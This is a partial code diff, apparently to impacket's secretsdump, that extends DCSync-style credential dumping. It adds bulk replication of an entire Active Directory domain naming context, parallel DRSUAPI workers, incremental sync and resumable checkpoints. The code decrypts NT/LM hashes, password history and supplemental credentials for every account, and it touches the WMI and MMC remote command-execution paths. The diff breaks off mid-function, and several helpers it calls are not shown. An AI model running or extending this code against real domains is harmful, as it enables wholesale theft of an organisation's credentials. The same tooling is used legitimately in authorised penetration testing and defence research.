@@ -49,14 +49,18 @@ from __future__ import division
 from __future__ import print_function
 import codecs
 import hashlib
+import json
 import logging
 import ntpath
 import os
 import random
 import string
+import threading
 import time
 from binascii import unhexlify, hexlify
 from collections import OrderedDict
+from concurrent.futures import ThreadPoolExecutor
+from queue import Queue
 from datetime import datetime
 from struct import unpack, pack
 from six import b, PY2
@@ -67,19 +71,13 @@ from impacket import winregistry, ntlm
 from impacket.dcerpc.v5 import transport, rrp, scmr, wkst, samr, epm, drsuapi
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException, RPC_C_AUTHN_GSS_NEGOTIATE
-from impacket.dcerpc.v5.dcom import wmi
-from impacket.dcerpc.v5.dcom.oaut import IID_IDispatch, IDispatch, DISPPARAMS, DISPATCH_PROPERTYGET, \
-    VARIANT, VARENUM, DISPATCH_METHOD
-from impacket.dcerpc.v5.dcomrt import DCOMConnection, OBJREF, FLAGS_OBJREF_CUSTOM, OBJREF_CUSTOM, OBJREF_HANDLER, \
-    OBJREF_EXTENDED, OBJREF_STANDARD, FLAGS_OBJREF_HANDLER, FLAGS_OBJREF_STANDARD, FLAGS_OBJREF_EXTENDED, \
-    IRemUnknown2, INTERFACE
 from impacket.ese import ESENT_DB
 from impacket.dpapi import DPAPI_SYSTEM
 from impacket.smb3structs import FILE_READ_DATA, FILE_SHARE_READ
 from impacket.nt_errors import STATUS_MORE_ENTRIES
 from impacket.structure import Structure
 from impacket.structure import hexdump
-from impacket.uuid import string_to_bin
+from impacket.uuid import string_to_bin, bin_to_string
 from impacket.crypto import transformKey
 from impacket.krb5 import constants
 from impacket.krb5.crypto import string_to_key
@@ -502,13 +500,23 @@ class RemoteOperations:
     def getDrsr(self):
         return self.__drsr
 
+    def cloneForDrsuapi(self):
+        # Returns a RemoteOperations sharing our SMB connection and domain. It opens its own DRSUAPI binding
+        # the first time it's used, so several clones can replicate objects in parallel.
+        remoteOps = RemoteOperations(self.__smbConnection, self.__doKerberos, self.__kdcHost)
+        remoteOps.__domainName = self.__domainName
+        return remoteOps
+
     def DRSCrackNames(self, formatOffered=drsuapi.DS_NAME_FORMAT.DS_DISPLAY_NAME,
-                      formatDesired=drsuapi.DS_NAME_FORMAT.DS_FQDN_1779_NAME, name=''):
+                      formatDesired=drsuapi.DS_NAME_FORMAT.DS_FQDN_1779_NAME, name='', names=()):
+        # names lets the caller crack several names with a single call, rItems come back in the same order
         if self.__drsr is None:
             self.__connectDrds()
 
-        LOG.debug('Calling DRSCrackNames for %s ' % name)
-        resp = drsuapi.hDRSCrackNames(self.__drsr, self.__hDrs, 0, formatOffered, formatDesired, (name,))
+        if len(names) == 0:
+            names = (name,)
+        LOG.debug('Calling DRSCrackNames for %s ' % ', '.join(names))
+        resp = drsuapi.hDRSCrackNames(self.__drsr, self.__hDrs, 0, formatOffered, formatDesired, tuple(names))
         return resp
 
     def DRSGetNCChanges(self, userEntry):
@@ -544,6 +552,11 @@ class RemoteOperations:
         request['pmsgIn']['V8']['cMaxObjects'] = 1
         request['pmsgIn']['V8']['cMaxBytes'] = 0
         request['pmsgIn']['V8']['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
+        self.__setPartialAttrSet(request)
+
+        return self.__drsr.request(request)
+
+    def __setPartialAttrSet(self, request):
         if self.__ppartialAttrSet is None:
             self.__prefixTable = []
             self.__ppartialAttrSet = drsuapi.PARTIAL_ATTR_VECTOR_V1_EXT()
@@ -556,6 +569,87 @@ class RemoteOperations:
         request['pmsgIn']['V8']['PrefixTableDest']['pPrefixEntry'] = self.__prefixTable
         request['pmsgIn']['V8']['pPartialAttrSetEx1'] = NULL
 
+    def getDomainNCEntry(self):
+        # Cracks the NetBIOS domain name (DOMAIN\) into the objectGUID of the domain naming context root.
+        # That's the pNC we need when replicating the whole NC instead of single objects.
+        if self.__drsr is None:
+            self.__connectDrds()
+
+        crackedName = self.DRSCrackNames(drsuapi.DS_NAME_FORMAT.DS_NT4_ACCOUNT_NAME,
+                                         drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME, name='%s\\' % self.__domainName)
+        if crackedName['pmsgOut']['V1']['pResult']['cItems'] != 1:
+            raise Exception('DRSCrackNames returned %d items for domain %s' % (
+                crackedName['pmsgOut']['V1']['pResult']['cItems'], self.__domainName))
+        if crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['status'] != 0:
+            raise Exception("%s: %s" % system_errors.ERROR_MESSAGES[
+                0x2114 + crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['status']])
+
+        return crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['pName'][:-1]
+
+    def DRSGetNCChangesBulk(self, ncEntry, usnvecFrom=None, invocationId=None, maxObjects=1000,
+                            maxBytes=10*1024*1024, upToDateVector=None, fullSync=True):
+        # Replicates a page of the whole naming context. The first call is done with usnvecFrom = None, the next
+        # ones with the usnvecTo and uuidInvocIdSrc returned by the previous reply, until fMoreData is False.
+        # With fullSync = False the call is an incremental one: usnvecFrom is the watermark saved by a previous
+        # replication and upToDateVector the list of (uuidDsa, usnHighPropUpdate) cursors it returned, so the DC
+        # only sends the objects changed since then.
+        if self.__drsr is None:
+            self.__connectDrds()
+
+        LOG.debug('Calling DRSGetNCChanges for NC %s ' % ncEntry)
+        request = drsuapi.DRSGetNCChanges()
+        request['hDrs'] = self.__hDrs
+        request['dwInVersion'] = 8
+
+        request['pmsgIn']['tag'] = 8
+        request['pmsgIn']['V8']['uuidDsaObjDest'] = self.__NtdsDsaObjectGuid
+        if invocationId is None:
+            request['pmsgIn']['V8']['uuidInvocIdSrc'] = self.__NtdsDsaObjectGuid
+        else:
+            request['pmsgIn']['V8']['uuidInvocIdSrc'] = invocationId
+
+        dsName = drsuapi.DSNAME()
+        dsName['SidLen'] = 0
+        dsName['Guid'] = string_to_bin(ncEntry[1:-1])
+        dsName['Sid'] = ''
+        dsName['NameLen'] = 0
+        dsName['StringName'] = ('\x00')
+
+        dsName['structLen'] = len(dsName.getData())
+
+        request['pmsgIn']['V8']['pNC'] = dsName
+
+        if usnvecFrom is None:
+            request['pmsgIn']['V8']['usnvecFrom']['usnHighObjUpdate'] = 0
+            request['pmsgIn']['V8']['usnvecFrom']['usnHighPropUpdate'] = 0
+        else:
+            request['pmsgIn']['V8']['usnvecFrom']['usnHighObjUpdate'] = usnvecFrom['usnHighObjUpdate']
+            request['pmsgIn']['V8']['usnvecFrom']['usnHighPropUpdate'] = usnvecFrom['usnHighPropUpdate']
+
+        if upToDateVector is None:
+            request['pmsgIn']['V8']['pUpToDateVecDest'] = NULL
+        else:
+            upToDateVecDest = drsuapi.UPTODATE_VECTOR_V1_EXT()
+            upToDateVecDest['dwVersion'] = 1
+            upToDateVecDest['cNumCursors'] = len(upToDateVector)
+            for uuidDsa, usnHighPropUpdate in upToDateVector:
+                cursor = drsuapi.UPTODATE_CURSOR_V1()
+                cursor['uuidDsa'] = uuidDsa
+                cursor['usnHighPropUpdate'] = usnHighPropUpdate
+                upToDateVecDest['rgCursors'].append(cursor)
+            request['pmsgIn']['V8']['pUpToDateVecDest'] = upToDateVecDest
+
+        if fullSync is True:
+            request['pmsgIn']['V8']['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP | \
+                                                 drsuapi.DRS_NEVER_SYNCED | drsuapi.DRS_FULL_SYNC_NOW | \
+                                                 drsuapi.DRS_SYNC_URGENT
+        else:
+            request['pmsgIn']['V8']['ulFlags'] = drsuapi.DRS_WRIT_REP | drsuapi.DRS_SYNC_URGENT
+        request['pmsgIn']['V8']['cMaxObjects'] = maxObjects
+        request['pmsgIn']['V8']['cMaxBytes'] = maxBytes
+        request['pmsgIn']['V8']['ulExtendedOp'] = 0
+        self.__setPartialAttrSet(request)
+
         return self.__drsr.request(request)
 
     def getDomainUsers(self, enumerationContext=0):
@@ -821,6 +915,10 @@ class RemoteOperations:
         scmr.hRCloseServiceHandle(self.__scmr, service)
 
     def __getInterface(self, interface, resp):
+        # The DCOM stack is imported by the exec methods using it only
+        from impacket.dcerpc.v5.dcomrt import OBJREF, FLAGS_OBJREF_CUSTOM, OBJREF_CUSTOM, OBJREF_HANDLER, \
+            OBJREF_EXTENDED, OBJREF_STANDARD, FLAGS_OBJREF_HANDLER, FLAGS_OBJREF_STANDARD, FLAGS_OBJREF_EXTENDED, \
+            IRemUnknown2, INTERFACE
         # Now let's parse the answer and build an Interface instance
         objRefType = OBJREF(b''.join(resp))['flags']
         objRef = None
@@ -841,6 +939,9 @@ class RemoteOperations:
                       target=interface.get_target()))
 
     def __mmcExec(self,command):
+        from impacket.dcerpc.v5.dcom.oaut import IID_IDispatch, IDispatch, DISPPARAMS, DISPATCH_PROPERTYGET, \
+            VARIANT, VARENUM, DISPATCH_METHOD
+        from impacket.dcerpc.v5.dcomrt import DCOMConnection
         command = command.replace('%COMSPEC%', 'c:\\windows\\system32\\cmd.exe')
         username, password, domain, lmhash, nthash, aesKey, _, _ = self.__smbConnection.getCredentials()
         dcom = DCOMConnection(self.__smbConnection.getRemoteHost(), username, password, domain, lmhash, nthash, aesKey,
@@ -910,6 +1011,8 @@ class RemoteOperations:
 
 
     def __wmiExec(self, command):
+        from impacket.dcerpc.v5.dcom import wmi
+        from impacket.dcerpc.v5.dcomrt import DCOMConnection
         # Convert command to wmi exec friendly format
         command = command.replace('%COMSPEC%', 'cmd.exe')
         username, password, domain, lmhash, nthash, aesKey, _, _ = self.__smbConnection.getCredentials()
@@ -1670,13 +1773,14 @@ class LSASecrets(OfflineRegistry):
 
 
 class ResumeSessionMgrInFile(object):
+    # The resume data is a JSON document. Every write replaces the file atomically, so a process killed in the middle
+    # of a checkpoint leaves the previous one behind instead of a truncated file.
     def __init__(self, resumeFileName=None):
         self.__resumeFileName = resumeFileName
-        self.__resumeFile = None
-        self.__hasResumeData = resumeFileName is not None
 
     def hasResumeData(self):
-        return self.__hasResumeData
+        return self.__resumeFileName is not None and os.path.isfile(self.__resumeFileName) and \
+               os.path.getsize(self.__resumeFileName) > 0
 
     def clearResumeData(self):
         self.endTransaction()
@@ -1685,21 +1789,17 @@ class ResumeSessionMgrInFile(object):
 
     def writeResumeData(self, data):
         # self.beginTransaction() must be called first, but we are aware of performance here, so we avoid checking that
-        self.__resumeFile.seek(0, 0)
-        self.__resumeFile.truncate(0)
-        self.__resumeFile.write(data.encode())
-        self.__resumeFile.flush()
+        tmpFileName = self.__resumeFileName + '.tmp'
+        with open(tmpFileName, 'w') as resumeFile:
+            json.dump(data, resumeFile)
+        os.replace(tmpFileName, self.__resumeFileName)
 
     def getResumeData(self):
         try:
-            self.__resumeFile = open(self.__resumeFileName,'rb')
+            with open(self.__resumeFileName, 'r') as resumeFile:
+                return json.load(resumeFile)
         except Exception as e:
-            raise Exception('Cannot open resume session file name %s' % str(e))
-        resumeSid = self.__resumeFile.read()
-        self.__resumeFile.close()
-        # Truncate and reopen the file as wb+
-        self.__resumeFile = open(self.__resumeFileName,'wb+')
-        return resumeSid.decode('utf-8')
+            raise Exception('Cannot read resume session file %s: %s' % (self.__resumeFileName, str(e)))
 
     def getFileName(self):
         return self.__resumeFileName
@@ -1708,16 +1808,13 @@ class ResumeSessionMgrInFile(object):
         if not self.__resumeFileName:
             self.__resumeFileName = 'sessionresume_%s' % ''.join(random.choice(string.ascii_letters) for _ in range(8))
             LOG.debug('Session resume file will be %s' % self.__resumeFileName)
-        if not self.__resumeFile:
-            try:
-                self.__resumeFile = open(self.__resumeFileName, 'wb+')
-            except Exception as e:
-                raise Exception('Cannot create "%s" resume session file: %s' % (self.__resumeFileName, str(e)))
+        try:
+            open(self.__resumeFileName, 'a').close()
+        except Exception as e:
+            raise Exception('Cannot create "%s" resume session file: %s' % (self.__resumeFileName, str(e)))
 
     def endTransaction(self):
-        if self.__resumeFile:
-            self.__resumeFile.close()
-            self.__resumeFile = None
+        pass
 
 
 class NTDSHashes:
@@ -1790,6 +1887,12 @@ class NTDSHashes:
 
     ACCOUNT_TYPES = ( SAM_NORMAL_USER_ACCOUNT, SAM_MACHINE_ACCOUNT, SAM_TRUST_ACCOUNT)
 
+    # Page size used when replicating the whole domain NC
+    BULK_MAX_OBJECTS = 1000
+    BULK_MAX_BYTES = 10*1024*1024
+    # Number of users processed between two resume checkpoints of the per user replication
+    RESUME_CHECKPOINT_INTERVAL = 100
+
     class PEKLIST_ENC(Structure):
         structure = (
             ('Header','8s=b""'),
@@ -1843,7 +1946,8 @@ class NTDSHashes:
                  useVSSMethod=False, justNTLM=False, pwdLastSet=False, resumeSession=None, outputFileName=None,
                  justUser=None, printUserStatus=False,
                  perSecretCallback = lambda secretType, secret : _print_helper(secret),
-                 resumeSessionMgr=ResumeSessionMgrInFile):
+                 resumeSessionMgr=ResumeSessionMgrInFile, bulkReplication=False, drsuapiWorkers=1,
+                 replicationState=None):
         self.__bootKey = bootKey
         self.__NTDS = ntdsFile
         self.__history = history
@@ -1865,6 +1969,16 @@ class NTDSHashes:
         self.__outputFileName = outputFileName
         self.__justUser = justUser
         self.__perSecretCallback = perSecretCallback
+        self.__bulkReplication = bulkReplication
+        self.__bulkObjects = 0
+        self.__drsuapiWorkers = drsuapiWorkers
+        self.__drsuapiPool = None
+        self.__drsuapiClones = []
+        self.__idleClones = Queue()
+        self.__workerLocal = threading.local()
+        self.__replicationState = replicationState
+        self.__newReplicationState = None
+        self.__deletedRids = []
 		
 		# these are all the columns that we need to get the secrets. 
 		# If in the future someone finds other columns containing interesting things please extend ths table.
@@ -1984,7 +2098,40 @@ class NTDSHashes:
             dt = datetime.fromtimestamp(t)
             return dt.strftime("%Y-%m-%d %H:%M")
 
-    def __decryptSupplementalInfo(self, record, prefixTable=None, keysFile=None, clearTextFile=None):
+    @staticmethod
+    def __getEntinf(record):
+        # DRSUAPI records are either a whole DRSGetNCChanges() reply holding just one object (EXOP_REPL_OBJ)
+        # or an ENTINF already taken out of a bulk replication reply
+        if isinstance(record, drsuapi.ENTINF):
+            return record
+        replyVersion = 'V%d' % record['pdwOutVersion']
+        return record['pmsgOut'][replyVersion]['pObjects']['Entinf']
+
+    @staticmethod
+    def __iterEntinf(reply):
+        # pObjects is a linked list of REPLENTINFLIST, a NULL pNextEntInf comes back as b''
+        entry = reply['pObjects']
+        while isinstance(entry, drsuapi.REPLENTINFLIST):
+            yield entry['Entinf']
+            entry = entry['pNextEntInf']
+
+    def __isAccountEntinf(self, entinf, prefixTable):
+        # Full NC replication returns every object in the domain (OUs, groups, containers, tombstones...).
+        # Accounts are the ones with a SID and an userAccountControl value that are not deleted.
+        if entinf['pName']['SidLen'] == 0 or entinf['pName']['StringName'].find('\nDEL:') >= 0:
+            return False
+        for attr in entinf['AttrBlock']['pAttr']:
+            try:
+                attId = drsuapi.OidFromAttid(prefixTable, attr['attrTyp'])
+                LOOKUP_TABLE = self.ATTRTYP_TO_ATTID
+            except Exception:
+                attId = attr['attrTyp']
+                LOOKUP_TABLE = self.NAME_TO_ATTRTYP
+            if attId == LOOKUP_TABLE['userAccountControl'] and attr['AttrVal']['valCount'] > 0:
+                return True
+        return False
+
+    def __decryptSupplementalInfo(self, record, prefixTable=None, keysFile=None, clearTextFile=None, drsr=None):
         # This is based on [MS-SAMR] 2.2.10 Supplemental Credentials Structures
         haveInfo = False
         LOG.debug('Entering NTDSHashes.__decryptSupplementalInfo')
@@ -2011,8 +2158,12 @@ class NTDSHashes:
         else:
             domain = None
             userName = None
-            replyVersion = 'V%d' % record['pdwOutVersion']
-            for attr in record['pmsgOut'][replyVersion]['pObjects']['Entinf']['AttrBlock']['pAttr']:
+            entinf = self.__getEntinf(record)
+            objectName = entinf['pName']['StringName'][:-1]
+            # Attributes must be decrypted with the session key of the binding the record came from
+            if drsr is None:
+                drsr = self.__remoteOps.getDrsr()
+            for attr in entinf['AttrBlock']['pAttr']:
                 try:
                     attId = drsuapi.OidFromAttid(prefixTable, attr['attrTyp'])
                     LOOKUP_TABLE = self.ATTRTYP_TO_ATTID
@@ -2036,16 +2187,15 @@ class NTDSHashes:
                         try:
                             userName = b''.join(attr['AttrVal']['pAVal'][0]['pVal']).decode('utf-16le')
                         except:
-                            LOG.error(
-                                'Cannot get sAMAccountName for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                            LOG.error('Cannot get sAMAccountName for %s' % objectName)
                             userName = 'unknown'
                     else:
-                        LOG.error('Cannot get sAMAccountName for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                        LOG.error('Cannot get sAMAccountName for %s' % objectName)
                         userName = 'unknown'
                 if attId == LOOKUP_TABLE['supplementalCredentials']:
                     if attr['AttrVal']['valCount'] > 0:
                         blob = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
-                        plainText = drsuapi.DecryptAttributeValue(self.__remoteOps.getDrsr(), blob)
+                        plainText = drsuapi.DecryptAttributeValue(drsr, blob)
                         if len(plainText) > 24:
                             haveInfo = True
             if domain is not None:
@@ -2102,7 +2252,7 @@ class NTDSHashes:
 
         LOG.debug('Leaving NTDSHashes.__decryptSupplementalInfo')
 
-    def __decryptHash(self, record, prefixTable=None, outputFile=None):
+    def __decryptHash(self, record, prefixTable=None, outputFile=None, drsr=None):
         LOG.debug('Entering NTDSHashes.__decryptHash')
         if self.__useVSSMethod is True:
             LOG.debug('Decrypting hash for user: %s' % record[self.NAME_TO_INTERNAL['name']])
@@ -2213,16 +2363,23 @@ class NTDSHashes:
                         self.__writeOutput(outputFile, answer + '\n')
                     self.__perSecretCallback(NTDSHashes.SECRET_TYPE.NTDS, answer)
         else:
-            replyVersion = 'V%d' %record['pdwOutVersion']
-            LOG.debug('Decrypting hash for user: %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+            entinf = self.__getEntinf(record)
+            objectName = entinf['pName']['StringName'][:-1]
+            LOG.debug('Decrypting hash for user: %s' % objectName)
+            if drsr is None:
+                drsr = self.__remoteOps.getDrsr()
             domain = None
+            userName = 'unknown'
+            LMHash = ntlm.LMOWFv1('', '')
+            # The objects replicated in bulk don't always carry unicodePwd
+            NTHash = None
             if self.__history:
                 LMHistory = []
                 NTHistory = []
 
-            rid = unpack('<L', record['pmsgOut'][replyVersion]['pObjects']['Entinf']['pName']['Sid'][-4:])[0]
+            rid = unpack('<L', entinf['pName']['Sid'][-4:])[0]
 
-            for attr in record['pmsgOut'][replyVersion]['pObjects']['Entinf']['AttrBlock']['pAttr']:
+            for attr in entinf['AttrBlock']['pAttr']:
                 try:
                     attId = drsuapi.OidFromAttid(prefixTable, attr['attrTyp'])
                     LOOKUP_TABLE = self.ATTRTYP_TO_ATTID
@@ -2236,14 +2393,14 @@ class NTDSHashes:
                 if attId == LOOKUP_TABLE['dBCSPwd']:
                     if attr['AttrVal']['valCount'] > 0:
                         encrypteddBCSPwd = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
-                        encryptedLMHash = drsuapi.DecryptAttributeValue(self.__remoteOps.getDrsr(), encrypteddBCSPwd)
+                        encryptedLMHash = drsuapi.DecryptAttributeValue(drsr, encrypteddBCSPwd)
                         LMHash = drsuapi.removeDESLayer(encryptedLMHash, rid)
                     else:
                         LMHash = ntlm.LMOWFv1('', '')
                 elif attId == LOOKUP_TABLE['unicodePwd']:
                     if attr['AttrVal']['valCount'] > 0:
                         encryptedUnicodePwd = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
-                        encryptedNTHash = drsuapi.DecryptAttributeValue(self.__remoteOps.getDrsr(), encryptedUnicodePwd)
+                        encryptedNTHash = drsuapi.DecryptAttributeValue(drsr, encryptedUnicodePwd)
                         NTHash = drsuapi.removeDESLayer(encryptedNTHash, rid)
                     else:
                         NTHash = ntlm.NTOWFv1('', '')
@@ -2260,23 +2417,23 @@ class NTDSHashes:
                         try:
                             userName = b''.join(attr['AttrVal']['pAVal'][0]['pVal']).decode('utf-16le')
                         except:
-                            LOG.error('Cannot get sAMAccountName for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                            LOG.error('Cannot get sAMAccountName for %s' % objectName)
                             userName = 'unknown'
                     else:
-                        LOG.error('Cannot get sAMAccountName for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                        LOG.error('Cannot get sAMAccountName for %s' % objectName)
                         userName = 'unknown'
                 elif attId == LOOKUP_TABLE['objectSid']:
                     if attr['AttrVal']['valCount'] > 0:
                         objectSid = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
                     else:
-                        LOG.error('Cannot get objectSid for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                        LOG.error('Cannot get objectSid for %s' % objectName)
                         objectSid = rid
                 elif attId == LOOKUP_TABLE['pwdLastSet']:
                     if attr['AttrVal']['valCount'] > 0:
                         try:
                             pwdLastSet = self.__fileTimeToDateTime(unpack('<Q', b''.join(attr['AttrVal']['pAVal'][0]['pVal']))[0])
                         except:
-                            LOG.error('Cannot get pwdLastSet for %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                            LOG.error('Cannot get pwdLastSet for %s' % objectName)
                             pwdLastSet = 'N/A'
                 elif self.__printUserStatus and attId == LOOKUP_TABLE['userAccountControl']:
                     if attr['AttrVal']['valCount'] > 0:
@@ -2291,21 +2448,25 @@ class NTDSHashes:
                     if attId == LOOKUP_TABLE['lmPwdHistory']:
                         if attr['AttrVal']['valCount'] > 0:
                             encryptedLMHistory = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
-                            tmpLMHistory = drsuapi.DecryptAttributeValue(self.__remoteOps.getDrsr(), encryptedLMHistory)
+                            tmpLMHistory = drsuapi.DecryptAttributeValue(drsr, encryptedLMHistory)
                             for i in range(0, len(tmpLMHistory) // 16):
                                 LMHashHistory = drsuapi.removeDESLayer(tmpLMHistory[i * 16:(i + 1) * 16], rid)
                                 LMHistory.append(LMHashHistory)
                         else:
-                            LOG.debug('No lmPwdHistory for user %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                            LOG.debug('No lmPwdHistory for user %s' % objectName)
                     elif attId == LOOKUP_TABLE['ntPwdHistory']:
                         if attr['AttrVal']['valCount'] > 0:
                             encryptedNTHistory = b''.join(attr['AttrVal']['pAVal'][0]['pVal'])
-                            tmpNTHistory = drsuapi.DecryptAttributeValue(self.__remoteOps.getDrsr(), encryptedNTHistory)
+                            tmpNTHistory = drsuapi.DecryptAttributeValue(drsr, encryptedNTHistory)
                             for i in range(0, len(tmpNTHistory) // 16):
                                 NTHashHistory = drsuapi.removeDESLayer(tmpNTHistory[i * 16:(i + 1) * 16], rid)
                                 NTHistory.append(NTHashHistory)
                         else:
-                            LOG.debug('No ntPwdHistory for user %s' % record['pmsgOut'][replyVersion]['pNC']['StringName'][:-1])
+                            LOG.debug('No ntPwdHistory for user %s' % objectName)
+
+            if NTHash is None:
+                LOG.debug('No unicodePwd for %s, skipping' % objectName)
+                return
 
             if domain is not None:
                 userName = '%s\\%s' % (domain, userName)
@@ -2370,12 +2531,18 @@ class NTDSHashes:
                     # Target's not a DC
                     return
 
+        resumeData = None
         try:
+            if self.__useVSSMethod is False and self.__resumeSession.hasResumeData():
+                resumeData = self.__resumeSession.getResumeData()
+
             # Let's check if we need to save results in a file
             if self.__outputFileName is not None:
                 LOG.debug('Saving output to %s' % self.__outputFileName)
                 # We have to export. Are we resuming a session?
-                if self.__resumeSession.hasResumeData():
+                if resumeData is not None:
+                    # Whatever was written after the last checkpoint will be written again
+                    self.__truncateOutput(resumeData)
                     mode = 'a+'
                 else:
                     mode = 'w+'
@@ -2442,14 +2609,24 @@ class NTDSHashes:
                 enumerationContext = 0
 
                 # Do we have to resume from a previously saved session?
-                if self.__resumeSession.hasResumeData():
-                    resumeSid = self.__resumeSession.getResumeData()
-                    LOG.info('Resuming from SID %s, be patient' % resumeSid)
-                else:
-                    resumeSid = None
-                    # We do not create a resume file when asking for a single user
-                    if self.__justUser is None:
-                        self.__resumeSession.beginTransaction()
+                if resumeData is not None:
+                    LOG.info('Resuming the session saved in %s' % self.__resumeSession.getFileName())
+                # We do not create a resume file when asking for a single user
+                elif self.__justUser is None:
+                    self.__resumeSession.beginTransaction()
+
+                bulkDone = False
+                if self.__justUser is None and self.__bulkReplication is True and \
+                        (resumeData is None or resumeData['method'] == 'bulk'):
+                    try:
+                        self.__dumpBulk(hashesOutputFile, keysOutputFile, clearTextOutputFile, resumeData)
+                        bulkDone = True
+                    except DCERPCException as e:
+                        if self.__bulkObjects > 0 or resumeData is not None:
+                            raise
+                        # Nothing has been written yet, the per user replication can still work
+                        LOG.warning('Bulk replication of the domain NC failed (%s), '
+                                    'falling back to the per user replication' % str(e))
 
                 if self.__justUser is not None:
                     # Depending on the input received, we need to change the formatOffered before calling
@@ -2493,64 +2670,104 @@ class NTDSHashes:
                         LOG.error("Error while processing user!")
                         LOG.debug("Exception", exc_info=True)
                         LOG.error(str(e))
-                else:
+                elif bulkDone is False:
+                    # RIDs of the current SAMR page already processed
+                    doneRids = set()
+                    if resumeData is not None:
+                        # Straight to the page we were processing
+                        enumerationContext = resumeData['enumerationContext']
+                        doneRids.update(resumeData['doneRids'])
+                        LOG.info('Resuming from the enumeration context %d, %d users of its page are done' % (
+                            enumerationContext, len(doneRids)))
+                    if self.__drsuapiWorkers > 1:
+                        self.__openDrsuapiWorkers()
+                    pendingUsers = 0
                     while status == STATUS_MORE_ENTRIES:
                         resp = self.__remoteOps.getDomainUsers(enumerationContext)
 
+                        # Users of this page that are still pending
+                        pageUsers = []
                         for user in resp['Buffer']['Buffer']:
-                            userName = user['Name']
-
-                            userSid = "%s-%i" % (self.__remoteOps.getDomainSid(), user['RelativeId'])
-                            if resumeSid is not None:
-                                # Means we're looking for a SID before start processing back again
-                                if resumeSid == userSid:
-                                    # Match!, next round we will back processing
-                                    LOG.debug('resumeSid %s reached! processing users from now on' % userSid)
-                                    resumeSid = None
-                                else:
-                                    LOG.debug('Skipping SID %s since it was processed already' % userSid)
+                            if user['RelativeId'] in doneRids:
+                                LOG.debug('Skipping RID %d since it was processed already' % user['RelativeId'])
                                 continue
-
-                            # Let's crack the user sid into DS_FQDN_1779_NAME
-                            # In theory I shouldn't need to crack the sid. Instead
-                            # I could use it when calling DRSGetNCChanges inside the DSNAME parameter.
-                            # For some reason tho, I get ERROR_DS_DRA_BAD_DN when doing so.
-                            crackedName = self.__remoteOps.DRSCrackNames(drsuapi.DS_NAME_FORMAT.DS_SID_OR_SID_HISTORY_NAME,
-                                                                         drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME,
-                                                                         name=userSid)
-
-                            if crackedName['pmsgOut']['V1']['pResult']['cItems'] == 1:
-                                if crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['status'] != 0:
-                                    LOG.error("%s: %s" % system_errors.ERROR_MESSAGES[
-                                        0x2114 + crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['status']])
-                                    break
-                                userRecord = self.__remoteOps.DRSGetNCChanges(
-                                    crackedName['pmsgOut']['V1']['pResult']['rItems'][0]['pName'][:-1])
-                                # userRecord.dump()
-                                replyVersion = 'V%d' % userRecord['pdwOutVersion']
-                                if userRecord['pmsgOut'][replyVersion]['cNumObjects'] == 0:
-                                    raise Exception('DRSGetNCChanges didn\'t return any object!')
+                            userSid = "%s-%i" % (self.__remoteOps.getDomainSid(), user['RelativeId'])
+                            pageUsers.append((user['Name'], userSid))
+
+                        # Let's crack the sids of the whole page into DS_UNIQUE_ID_NAME with a single call
+                        # In theory I shouldn't need to crack the sid. Instead
+                        # I could use it when calling DRSGetNCChanges inside the DSNAME parameter.
+                        # For some reason tho, I get ERROR_DS_DRA_BAD_DN when doing so.
+                        if len(pageUsers) > 0:
+                            crackedNames = self.__remoteOps.DRSCrackNames(drsuapi.DS_NAME_FORMAT.DS_SID_OR_SID_HISTORY_NAME,
+                                                                          drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME,
+                                                                          names=[userSid for _, userSid in pageUsers])
+                            if crackedNames['pmsgOut']['V1']['pResult']['cItems'] == len(pageUsers):
+                                crackedItems = list(crackedNames['pmsgOut']['V1']['pResult']['rItems'])
                             else:
-                                LOG.warning('DRSCrackNames returned %d items for user %s, skipping' % (
-                                crackedName['pmsgOut']['V1']['pResult']['cItems'], userName))
+                                # The items can't be matched with the users, cracking the sids one by one
+                                LOG.warning('DRSCrackNames returned %d items for %d users, cracking them one by one' % (
+                                    crackedNames['pmsgOut']['V1']['pResult']['cItems'], len(pageUsers)))
+                                crackedItems = []
+                                for userName, userSid in pageUsers:
+                                    crackedName = self.__remoteOps.DRSCrackNames(
+                                        drsuapi.DS_NAME_FORMAT.DS_SID_OR_SID_HISTORY_NAME,
+                                        drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME, name=userSid)
+                                    if crackedName['pmsgOut']['V1']['pResult']['cItems'] == 1:
+                                        crackedItems.append(crackedName['pmsgOut']['V1']['pResult']['rItems'][0])
+                                    else:
+                                        LOG.warning('DRSCrackNames returned %d items for user %s, skipping' % (
+                                            crackedName['pmsgOut']['V1']['pResult']['cItems'], userName))
+                                        crackedItems.append(None)
+                        else:
+                            crackedItems = []
+
+                        pageEntries = []
+                        for (userName, userSid), crackedItem in zip(pageUsers, crackedItems):
+                            if crackedItem is None:
+                                continue
+                            if crackedItem['status'] != 0:
+                                LOG.error("%s: %s, skipping user %s" % (
+                                    system_errors.ERROR_MESSAGES[0x2114 + crackedItem['status']] + (userName,)))
+                                continue
+                            pageEntries.append((userName, userSid, crackedItem['pName'][:-1]))
+
+                        userRecords = self.__replicateUsers([userEntry for _, _, userEntry in pageEntries])
